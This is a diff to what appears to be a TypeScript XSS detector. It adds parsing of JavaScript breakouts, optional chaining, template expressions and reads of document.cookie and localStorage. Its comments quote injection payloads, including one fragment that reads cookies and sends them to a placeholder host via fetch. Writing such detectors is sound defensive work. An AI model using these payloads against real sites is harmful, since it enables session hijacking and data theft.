@@ -551,9 +551,11 @@ export function sinkAt(s: string, i: number): string | null {
       last = s.slice(st, j).toLowerCase();
       if (SINK_CALL.has(last) || SINK_ASSIGN.has(last)) anySink = true;
     } else if (c === 0x5b) {
-      // computed member: ['al' + 'ert'] or [atob(...)]; judged by what follows the bracket
-      const e = s.indexOf(']', j + 1);
-      if (e === -1 || e > stop) return null;
+      // computed member: ['al' + 'ert'] or [atob(...)]; judged by what follows the bracket. The search for
+      // `]` stops at the look-ahead bound (callers run this at many positions: an unbounded search is O(n²))
+      let e = j + 1;
+      while (e < stop && s.charCodeAt(e) !== 0x5d) e++;
+      if (e >= stop) return null;
       const inner = s.slice(j + 1, e).toLowerCase().replace(/[^a-z]/g, '');
       if (inner.includes('alert') || inner.includes('eval') || inner.includes('prompt') || inner.includes('confirm') || inner.includes('atob') || inner.includes('constructor')) anySink = true;
       // a computed property of a global object that is then called: top[…](1), window[…](…)
@@ -563,6 +565,15 @@ export function sinkAt(s: string, i: number): string | null {
     } else break;
     let k = j;
     while (k < stop && (s.charCodeAt(k) === 0x20 || s.charCodeAt(k) === 0x09)) k++;
+    // optional chaining `a?.b`, `a?.[…]`, `alert?.(1)` reads as `.`/`[`/`(`
+    if (s.charCodeAt(k) === 0x3f && s.charCodeAt(k + 1) === 0x2e) {
+      const d = s.charCodeAt(k + 2);
+      if (d === 0x28 || d === 0x5b || d === 0x60) k += 2;
+      else {
+        j = k + 2;
+        continue;
+      }
+    }
     if (s.charCodeAt(k) === 0x2e || s.charCodeAt(k) === 0x5b) {
       j = s.charCodeAt(k) === 0x2e ? k + 1 : k;
       continue;
@@ -572,35 +583,260 @@ export function sinkAt(s: string, i: number): string | null {
   }
   if (!anySink) return null;
   const c = s.charCodeAt(j);
+  // `confirm (twice) please` is prose: with a space before `(`, the arguments and what follows must read as code
+  if (c === 0x28 && j > i && (s.charCodeAt(j - 1) === 0x20 || s.charCodeAt(j - 1) === 0x09) && !codeArgs(s, j)) return null;
   if ((c === 0x28 || c === 0x60) && (SINK_CALL.has(last) || last.length === 0 || !SINK_ASSIGN.has(last))) return last || 'computed';
   if (c === 0x3d && s.charCodeAt(j + 1) !== 0x3d && SINK_ASSIGN.has(last)) return `${last}=`;
   return null;
 }
 
 /**
+ * True when the parenthesised group opening at `open` reads as call arguments: no two words or numbers in a
+ * row inside it (`(your email)` is prose), and no word right after its `)` on the same line (`f(x) y` is not
+ * JS; `(twice) please` is prose). Strings are skipped. Bounded to 128 chars; an unclosed group counts as code
+ * (payloads are cut at the injection point).
+ */
+function codeArgs(s: string, open: number): boolean {
+  const stop = Math.min(s.length, open + 128);
+  let depth = 0;
+  let operand = false;
+  for (let k = open; k < stop; k++) {
+    const c = s.charCodeAt(k);
+    if (c === 0x22 || c === 0x27 || c === 0x60) {
+      let e = k + 1;
+      while (e < stop && s.charCodeAt(e) !== c) e++;
+      if (operand) return false;
+      operand = true;
+      k = e;
+      continue;
+    }
+    if (isIdent(c)) {
+      if (operand) return false;
+      const st = k;
+      while (k + 1 < stop && (isIdent(s.charCodeAt(k + 1)) || s.charCodeAt(k + 1) === 0x2e)) k++;
+      const w = s.slice(st, k + 1).toLowerCase();
+      // a number with a unit (`30s`, `2nd`) is prose, not a JS literal (`0x1f`, `1e3`, `10n` are)
+      if (c >= 0x30 && c <= 0x39 && !numericLiteral(w)) return false;
+      operand = !JS_OPERATOR_WORDS.has(w);
+      continue;
+    }
+    if (c === 0x20 || c === 0x09) continue;
+    if (c > 0x7e) return false;
+    operand = false;
+    if (c === 0x28) depth++;
+    else if (c === 0x29 && --depth === 0) {
+      let e = k + 1;
+      while (e < s.length && (s.charCodeAt(e) === 0x20 || s.charCodeAt(e) === 0x09)) e++;
+      return !(e < s.length && (isIdent(s.charCodeAt(e)) || s.charCodeAt(e) > 0x7e));
+    }
+  }
+  return true;
+}
+
+/** A JS numeric literal, lower-case (`42`, `1.5`, `0x1f`, `0b10`, `1e3`, `10n`). */
+function numericLiteral(w: string): boolean {
+  const radix = w.length > 2 && w.charCodeAt(0) === 0x30 && (w[1] === 'x' || w[1] === 'o' || w[1] === 'b');
+  for (let k = radix ? 2 : 0; k < w.length; k++) {
+    const c = w.charCodeAt(k);
+    if ((c >= 0x30 && c <= 0x39) || c === 0x2e || c === 0x5f || (radix && c >= 0x61 && c <= 0x66)) continue;
+    if ((c === 0x65 && !radix) || (c === 0x6e && k === w.length - 1)) continue;
+    return false;
+  }
+  return true;
+}
+
+/** Words after which an operand follows: a word then a word is prose unless the first is one of these. */
+const JS_OPERATOR_WORDS = new Set(['new', 'typeof', 'void', 'delete', 'in', 'instanceof', 'await', 'yield', 'return', 'throw', 'var', 'let', 'const', 'of', 'else', 'do', 'case']);
+
+/** Dialog/eval sinks that run when passed as a value (`{valueOf:alert}`, `[alert][0](1)`, `onerror=alert`). */
+const DIALOG_SINKS = new Set(['alert', 'prompt', 'confirm', 'eval']);
+
+/** The ASCII letters of `s[a..b)`, lower-cased (`'co'+'okie'` → `cookie`). */
+function lettersOnly(s: string, a: number, b: number): string {
+  let out = '';
+  for (let k = a; k < b; k++) {
+    const c = lowerAscii(s.charCodeAt(k));
+    if (c >= 0x61 && c <= 0x7a) out += String.fromCharCode(c);
+  }
+  return out;
+}
+
+/**
+ * A read of client-side secrets at `i`: `document.cookie`, `document['cookie']`, `document.domain` (also behind
+ * a window alias, `top.document.cookie`), `localStorage`/`sessionStorage`. Exfiltration payloads read them
+ * without calling a dialog (`'+document.cookie+'`). Bounded to 64 chars; `s` is not lower-cased.
+ */
+export function secretReadAt(s: string, i: number): string | null {
+  const stop = Math.min(s.length, i + 64);
+  let j = i;
+  let prev = '';
+  while (j < stop) {
+    const st = j;
+    while (j < stop && isIdent(s.charCodeAt(j))) j++;
+    let w = s.slice(st, j).toLowerCase();
+    if (w.length === 0 && s.charCodeAt(j) === 0x5b) {
+      // computed member with a literal: ['cookie']
+      let e = j + 1;
+      while (e < stop && s.charCodeAt(e) !== 0x5d) e++;
+      if (e >= stop) return null;
+      w = lettersOnly(s, j + 1, e);
+      j = e + 1;
+    }
+    if (w.length === 0) return null;
+    if (w === 'localstorage' || w === 'sessionstorage') return w;
+    if (prev === 'document' && (w === 'cookie' || w === 'domain')) return `document.${w}`;
+    if (!(GLOBALS.has(w) || w === 'document')) return null;
+    prev = w;
+    if (s.charCodeAt(j) === 0x2e) j++;
+    else if (s.charCodeAt(j) === 0x3f && s.charCodeAt(j + 1) === 0x2e) j += 2;
+    else if (s.charCodeAt(j) !== 0x5b) return null;
+  }
+  return null;
+}
+
+/**
+ * Reads the text at `i` as a run of JavaScript tokens (up to `stop`) and returns the first sink it reaches: a
+ * call or sink assignment ({@link sinkAt}), a member call/assignment after any expression (`new Image().src=…`,
+ * `x.open(…)`), a secret read ({@link secretReadAt}) or a dialog passed as a value. It gives up (null) as soon
+ * as the text stops looking like code, which is what keeps prose out: two words in a row without an operator
+ * between them (unless the first is an operator keyword such as `new`, `typeof`, `in`), a character that
+ * cannot occur in JS outside a string (non-ASCII letters, `#`, `@`), an unterminated string, or a `//`
+ * comment (the end of an injected statement). With `requireOp`, the first token must be an operator, a
+ * separator or a line break (the quote that precedes `i` then closed a string). Linear in `stop - i`.
+ */
+export function jsRun(s: string, i: number, stop: number, requireOp: boolean): string | null {
+  let sawOp = !requireOp;
+  let operand = false; // the last token was an identifier, number or string
+  let punct = 0; // the last punctuation character (0 after an operand)
+  while (i < stop) {
+    const c = s.charCodeAt(i);
+    if (c <= 0x20 || c === 0xa0 || c === 0x2028 || c === 0x2029) {
+      // a line terminator separates statements (automatic semicolon insertion)
+      if (c === 0x0a || c === 0x0d || c === 0x2028 || c === 0x2029) {
+        sawOp = true;
+        operand = false;
+      }
+      i++;
+      continue;
+    }
+    if (c === 0x2f && s.charCodeAt(i + 1) === 0x2f) return null;
+    if (c === 0x2f && s.charCodeAt(i + 1) === 0x2a) {
+      const e = s.indexOf('*/', i + 2);
+      if (e === -1 || e >= stop) return null;
+      i = e + 2;
+      continue;
+    }
+    if (c === 0x22 || c === 0x27 || c === 0x60) {
+      if (!sawOp || operand) return null;
+      let k = i + 1;
+      while (k < stop && s.charCodeAt(k) !== c) k += s.charCodeAt(k) === 0x5c ? 2 : 1;
+      if (k >= stop) return null;
+      i = k + 1;
+      operand = true;
+      punct = 0;
+      continue;
+    }
+    if (c >= 0x30 && c <= 0x39) {
+      if (!sawOp || operand) return null;
+      while (i < stop && (isIdent(s.charCodeAt(i)) || s.charCodeAt(i) === 0x2e)) i++;
+      operand = true;
+      punct = 0;
+      continue;
+    }
+    if (isIdentStart(c)) {
+      // `${` outside a literal is no JS: the text is template-literal content of a snippet, not a breakout
+      if (c === 0x24 && s.charCodeAt(i + 1) === 0x7b) return null;
+      let j = i;
+      while (j < stop && isIdent(s.charCodeAt(j))) j++;
+      const w = s.slice(i, j).toLowerCase();
+      if (w === 'in' || w === 'instanceof') sawOp = true; // binary operator words: `'in alert(1)in'`
+      else if (!sawOp || operand) return null;
+      let k = j;
+      while (k < stop && (s.charCodeAt(k) === 0x20 || s.charCodeAt(k) === 0x09)) k++;
+      const next = k < stop ? s.charCodeAt(k) : -1;
+      if (punct === 0x2e) {
+        // member of any expression: `….src=`, `….open(`, `…?.write(`
+        if (next === 0x3d && s.charCodeAt(k + 1) !== 0x3d && s.charCodeAt(k + 1) !== 0x3e && SINK_ASSIGN.has(w)) return `${w}=`;
+        if ((next === 0x28 || next === 0x60) && SINK_CALL.has(w) && w !== 'console' && w !== '$') return w;
+      } else {
+        const sink = sinkAt(s, i);
+        if (sink) return sink;
+        const secret = secretReadAt(s, i);
+        if (secret) return secret;
+        if (DIALOG_SINKS.has(w) && (punct === 0x3a || punct === 0x3d || punct === 0x2c || punct === 0x28 || punct === 0x5b) && (next === 0x7d || next === 0x29 || next === 0x2c || next === 0x3b || next === 0x5d)) return `${w} passed as a value`;
+      }
+      operand = !JS_OPERATOR_WORDS.has(w);
+      punct = 0;
+      i = j;
+      continue;
+    }
+    if (c === 0x3f && s.charCodeAt(i + 1) === 0x2e && !(s.charCodeAt(i + 2) >= 0x30 && s.charCodeAt(i + 2) <= 0x39)) {
+      punct = 0x2e; // optional chaining
+      operand = false;
+      i += 2;
+      continue;
+    }
+    if (c < 0x7f && c !== 0x23 && c !== 0x40) {
+      // punctuation: an operator, separator or bracket (`(`, `[`, `.` do not close a string by themselves)
+      if (c !== 0x28 && c !== 0x5b && c !== 0x2e && c !== 0x5c) sawOp = true;
+      operand = false;
+      punct = c;
+      i++;
+      continue;
+    }
+    return null;
+  }
+  return null;
+}
+
+/**
  * JavaScript-context breakouts: a quote that closes a JS string literal, then an operator or statement
- * separator, then a sink call (`";alert(1)//`, `'-alert(1)-'`, `\";confirm(1)//`, `'}alert(1);{'`), and
- * template-literal / `${}` expressions that call a sink (`${alert(1)}`). Plain `${org.name}` placeholders
- * are not reported. Linear (each quote or `${` starts a bounded look-ahead).
+ * separator, then JS statements that reach a sink (`";alert(1)//`, `'-alert(1)-'`, `\";confirm(1)//`,
+ * `'}alert(1);{'`, `';x=document.cookie;fetch(…)//`, read by {@link jsRun}), and template-literal / `${}`
+ * expressions that call a sink (`${alert(1)}`). Plain `${org.name}` placeholders are not reported. Linear
+ * (each quote or `${` starts a bounded look-ahead).
  */
 export function scanJsBreakout(s: string): string | null {
   const n = s.length;
   let closeSearchedTo = 0;
+  // quotes of each kind seen so far: at an even count, a quote would open a string if the value were code on
+  // its own; a value reflected inside a page's string closes that string there instead (the breakout). In
+  // code snippets and prose that quote opens a string or is an apostrophe, and {@link jsRun} then stops.
+  let dq = 0;
+  let sq = 0;
+  let bq = 0;
   for (let i = 0; i < n; i++) {
     const c = s.charCodeAt(i);
+    let closesOwn = false; // the quote closes a string the value itself opened (odd count)
+    if (c === 0x60 && s.charCodeAt(i + 1) === 0x60 && s.charCodeAt(i + 2) === 0x60) {
+      // a Markdown code fence: not a quote (it would flip the parity of every backtick after it)
+      while (i + 1 < n && s.charCodeAt(i + 1) === 0x60) i++;
+      continue;
+    }
+    if (c === 0x22 || c === 0x27 || c === 0x60) {
+      const seen = c === 0x22 ? dq++ : c === 0x27 ? sq++ : bq++;
+      closesOwn = seen % 2 === 1;
+      if (!closesOwn) {
+        const hit = jsRun(s, i + 1, Math.min(n, i + 256), true);
+        if (hit) return `JS string breakout then ${hit}`;
+      }
+    }
     if ((c === 0x3b || c === 0x7d) && i + 1 < n && isIdentStart(s.charCodeAt(i + 1))) {
       // statement boundary then a dialog/eval call: `;alert(1)`, `}alert(1);{`
       const sink = sinkAt(s, i + 1);
       if (sink && START_SINKS.has(sink)) return `statement then ${sink}`;
     }
     if (c === 0x22 || c === 0x27 || c === 0x60) {
-      // after the closing quote: separators/operators, optional parens, then a sink
+      // after the closing quote: separators/operators, optional parens, then a sink. After a quote that closes
+      // the value's own string, code snippets (`alert('Saved'); location.reload()`) look the same, except that
+      // people write spaces and payloads rarely do: there the operators must follow the quote without space.
       let j = i + 1;
       let ops = 0;
       const stop = Math.min(n, i + 24);
       while (j < stop) {
         const d = s.charCodeAt(j);
         if (d === 0x20 || d === 0x09 || d === 0x0a || d === 0x0d) {
+          if (closesOwn) break;
           j++;
           continue;
         }
@@ -620,6 +856,20 @@ export function scanJsBreakout(s: string): string | null {
       while (j < n && (s.charCodeAt(j) === 0x20 || s.charCodeAt(j) === 0x28)) j++;
       const sink = sinkAt(s, j);
       if (sink) return `template expression \${${sink}}`;
+      if (bq === 0) {
+        // `${…}` without the backtick that opens its literal: it lands in a page's template literal, where
+        // any sink or secret read in the expression runs (`${x=document.cookie,fetch('//e/'+x)}`). Inside a
+        // value's own literal (a code snippet) only the first-token check above applies.
+        let e = i + 2;
+        const cap = Math.min(n, i + 256);
+        for (let depth = 0; e < cap; e++) {
+          const d = s.charCodeAt(e);
+          if (d === 0x7b) depth++;
+          else if (d === 0x7d && depth-- === 0) break;
+        }
+        const hit = jsRun(s, i + 2, e, false);
+        if (hit) return `template expression reaching ${hit}`;
+      }
     } else if (c === 0x7b && s.charCodeAt(i + 1) === 0x7b && i >= closeSearchedTo) {
       // client-side template injection (AngularJS sandbox escapes): {{constructor.constructor('…')()}}
       const e = s.indexOf('}}', i + 2);
